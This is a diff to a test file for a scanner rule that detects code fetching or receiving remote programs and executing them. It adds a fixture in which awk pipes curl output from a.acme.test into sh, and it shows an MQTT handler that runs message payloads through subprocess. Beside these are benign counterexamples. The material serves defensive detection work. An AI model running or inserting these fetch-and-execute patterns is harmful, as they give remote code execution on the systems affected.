@@ -5,6 +5,12 @@ import { decodedProgram } from './hidden-programs.ts';
 ruleCases(fetchedProgram, {
   hits: [
     {
+      name: 'lines that awk gives to a shell',
+      path: 'a.sh',
+      text: 'awk \'BEGIN{c="curl -s https://a.acme.test/x"; while((c|getline l)>0) print l | "sh"}\'\n',
+      confidence: 'medium',
+    },
+    {
       name: 'messages of a broker that run',
       path: 'a.py',
       text: 'import paho.mqtt.client as m, subprocess\ndef on(c, u, msg):\n    subprocess.getoutput(msg.payload.decode())\nc.on_message = on\n',
@@ -43,6 +49,11 @@ ruleCases(fetchedProgram, {
     },
   ],
   misses: [
+    {
+      name: 'columns that awk prints',
+      path: 'a.sh',
+      text: "curl -s https://a.acme.test/x | awk '{ print $1 }'\n",
+    },
     {
       name: 'messages of a broker that are shown',
       path: 'a.py',
